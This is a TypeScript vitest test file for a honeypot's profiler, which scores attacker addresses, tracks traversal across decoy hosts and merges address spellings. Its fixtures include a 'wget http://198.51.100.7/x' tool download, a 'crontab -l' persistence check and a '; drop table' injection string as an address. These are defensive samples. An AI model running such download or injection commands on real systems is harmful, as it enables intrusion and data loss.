import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { attacker } from '../../../src/contract/attacker.js';
import { traversal } from '../../../src/contract/traversal.js';
import { openStore, type Store } from '../../../src/store/open.js';
import { createRounds, type RoundOutcome, type Rounds } from '../../../src/workers/profiler/round.js';
import { addFailures, addSession, HOUR, IP, readLedger, sidOf, START, statedFacts } from './rows.js';

let dir: string;
let path: string;
let store: Store;
let rounds: Rounds;
const NOW = START + 1000 * HOUR;
const gettingOn = () => undefined;
beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), 'decnet-profiler-'));
  path = join(dir, 'decnet.db');
  store = await openStore({ path });
  rounds = createRounds({ store, gettingOn });
});
afterEach(async () => {
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function runAll(now = NOW): Promise<RoundOutcome[]> {
  const outcomes: RoundOutcome[] = [];
  do outcomes.push(await rounds.run(now));
  while (outcomes.at(-1)?.more === true);
  return outcomes;
}

const HUMAN = { kd_class: 'human', kd_rhythm_simhash: '0'.repeat(16), kd_digraph_simhash: '0'.repeat(16) } as const;

describe('a round of the profiler', () => {
  it('makes one row of an address, with the score and its reasons', async () => {
    await addFailures(store, START, 7);
    await addSession(store, 1, { profile: { kd_class: 'human' }, commands: ['id', 'wget http://198.51.100.7/x'] });
    await addSession(store, 2, {
      session: { decky: 'psi', service: 'telnet', hidden_typing: true, duration_ms: 700_000 },
      profile: { kd_class: 'unknown', paste_count: 1 },
      commands: ['crontab -l', { command: '••••', source: 'hidden' }, { command: 'ls -', source: 'unfinished' }],
    });
    await addSession(store, 3, { session: { kind: 'exec', tty: null }, commands: [{ command: 'id', source: 'argv' }] });
    await addSession(store, 4, { session: { state: 'skipped' } });
    await runAll();
    const [row] = await store.attackers.list(9);
    expect(attacker.parse(row)).toEqual({
      src_ip: IP,
      first_seen: START,
      last_seen: START + 4 * HOUR + 1000,
      sessions: 4,
      session_kinds: { exec: 1, skipped: 1, tty: 2 },
      deckies: 2,
      decky_names: ['omega', 'psi'],
      services: 2,
      service_names: ['ssh', 'telnet'],
      commands: 4,
      failures: 7,
      classes: { human: 1, unknown: 1 },
      score: 85,
      reasons: [
        { reason: 'several_deckies', points: 10, evidence: 2 },
        { reason: 'typed_by_hand', points: 15, evidence: 1 },
        { reason: 'fetching_tools', points: 15, evidence: 1 },
        { reason: 'commands', points: 5, evidence: 4 },
        { reason: 'hidden_typing', points: 10, evidence: 1 },
        { reason: 'guessed_login', points: 10, evidence: 7 },
        { reason: 'persistence', points: 10, evidence: 1 },
        { reason: 'pasted', points: 5, evidence: 1 },
        { reason: 'long_session', points: 5, evidence: 1 },
      ],
      updated_at: NOW,
    });
  });

  it('counts nothing that is ours, and nobody without an address', async () => {
    await addSession(store, 1, { session: { origin: 'self' }, profile: HUMAN });
    await addSession(store, 2, { session: { src_ip: null } });
    await addSession(store, 3, { session: { src_ip: '; drop table' } });
    await addFailures(store, START, 2, { src_ip: null });
    await addFailures(store, START, 2, { src_ip: 'host.example' });
    await runAll();
    expect(await readLedger(store)).toEqual({ attackers: [], traversals: [], similar: [] });
  });

  it('takes one address for one, however a shard spells it', async () => {
    await addSession(store, 1, { session: { src_ip: '2001:db8::1' } });
    await addSession(store, 2, { session: { src_ip: '2001:0DB8:0:0::0001' } });
    await addSession(store, 3, { session: { src_ip: '::ffff:203.0.113.9' } });
    await addFailures(store, START, 1, { src_ip: IP });
    await runAll();
    expect(await store.attackers.get('2001:db8::1')).toMatchObject({ sessions: 2 });
    expect(await store.attackers.get(IP)).toMatchObject({ sessions: 1, failures: 1 });
    expect((await readLedger(store)).attackers).toHaveLength(2);
  });

  it('takes back what turns out to be ours', async () => {
    await addSession(store, 1, { profile: HUMAN });
    await addSession(store, 2, { session: { decky: 'psi', src_ip: '203.0.113.10' }, profile: HUMAN });
    await runAll();
    expect((await readLedger(store)).similar).toHaveLength(2);
    await store.sessions.update(sidOf(1), { origin: 'self' });
    await runAll();
    const { attackers, similar } = await readLedger(store);
    expect(attackers.map(({ src_ip: srcIp }) => srcIp)).toEqual(['203.0.113.10']);
    expect(similar).toEqual([]);
  });

  it('moves a session to its address when that becomes known, and changes both rows', async () => {
    await addSession(store, 1, { session: { src_ip: '203.0.113.10' } });
    await addSession(store, 2, { session: { src_ip: '203.0.113.10' } });
    await runAll();
    await store.sessions.update(sidOf(1), { src_ip: IP });
    await runAll();
    expect(await store.attackers.get(IP)).toMatchObject({ sessions: 1 });
    expect(await store.attackers.get('203.0.113.10')).toMatchObject({ sessions: 1 });
  });

  it('keeps when an address was first and last seen, whatever is pruned', async () => {
    await addSession(store, 1);
    await addSession(store, 9);
    await runAll();
    await addSession(store, 5);
    // What a pruning does to a session that is gone.
    for (const n of [1, 9]) await store.attackerSessions.remove(sidOf(n));
    await runAll();
    expect(await store.attackers.get(IP)).toMatchObject({
      ...{ sessions: 1, first_seen: START + HOUR, last_seen: START + 9 * HOUR + 1000 },
    });
  });

  it('believes no start that lies ahead of the last line', async () => {
    await addSession(store, 1, { session: { started_at: 8.64e15, last_line_at: START } });
    await runAll();
    expect(await store.attackers.get(IP)).toMatchObject({ first_seen: START, last_seen: START });
  });

  it('leaves a row that says the same as it is, and rings for it no more', async () => {
    await addSession(store, 1);
    expect((await runAll()).flatMap(({ changes }) => changes)).toMatchObject([{ isNew: true, isChanged: true }]);
    await store.sessions.update(sidOf(1), { last_error: 'anything' });
    expect((await runAll(NOW + 5)).flatMap(({ changes }) => changes)).toMatchObject([
      { isNew: false, isChanged: false },
    ]);
    expect(await store.attackers.get(IP)).toMatchObject({ updated_at: NOW });
  });

  it('states a traversal once, and again only when it reaches a further decky', async () => {
    await addFailures(store, START, 3);
    await addSession(store, 1, { session: { decky: 'psi' } });
    await runAll();
    const [found] = (await store.traversals.list(IP, 9)).map((row) => traversal.parse(row));
    expect(found).toMatchObject({
      first_at: START,
      last_at: START + HOUR,
      decky_names: ['omega', 'psi'],
      hop_count: 2,
    });
    const fact = (deckies: number, hops: number, last: string, path: string) =>
      `traversal_detected [relay@55555 src_ip="${IP}" deckies="${deckies}" hops="${hops}"` +
      ` first_at="2026-11-23T10:33:20.000Z" last_at="${last}" path="${path}" traversal="${found!.id}"]`;
    const first = fact(2, 2, '2026-11-23T11:33:20.000Z', 'omega,psi');
    expect(statedFacts(path)).toEqual([first]);

    await addSession(store, 2, { session: { decky: 'omega' } });
    rounds = createRounds({ store, gettingOn });
    await runAll();
    expect(statedFacts(path)).toEqual([first]);

    await addSession(store, 3, { session: { decky: 'chi' } });
    await runAll();
    expect(statedFacts(path)).toEqual([first, fact(3, 4, '2026-11-23T13:33:20.000Z', 'omega,psi,chi')]);
  });

  it('takes in more than one transaction holds, piece by piece', async () => {
    for (let n = 0; n < 430; n++) await addSession(store, n, { session: { src_ip: `203.0.113.${n % 256}` } });
    for (let n = 0; n < 250; n++) await addFailures(store, START, 1, { src_ip: `198.51.100.${n}` });
    const outcomes = await runAll();
    expect(outcomes.map(({ sessions }) => sessions)).toEqual([200, 200, 30]);
    expect(outcomes.map(({ failures }) => failures)).toEqual([200, 50, 0]);
    expect(await store.attackers.list(1000)).toHaveLength(256 + 250);
  }, 60_000);

  it('leaves the work to another process that did it, and sees what that wrote', async () => {
    await addSession(store, 1, { profile: HUMAN });
    await runAll();
    await addSession(store, 2, { profile: HUMAN });
    const other = createRounds({ store, gettingOn });
    const transaction = store.transaction.bind(store);
    const overtaken = createRounds({
      store: {
        ...store,
        transaction: async (work) => {
          await other.run(NOW);
          return transaction(work);
        },
      },
      gettingOn,
    });
    expect(await overtaken.run(NOW)).toMatchObject({ sessions: 0, more: true });
    await addSession(store, 3, { profile: HUMAN });
    rounds = overtaken;
    expect((await overtaken.run(NOW)).more).toBe(true);
    await createRounds({ store, gettingOn }).run(NOW);
    expect((await readLedger(store)).similar).toHaveLength(6);
  });
});
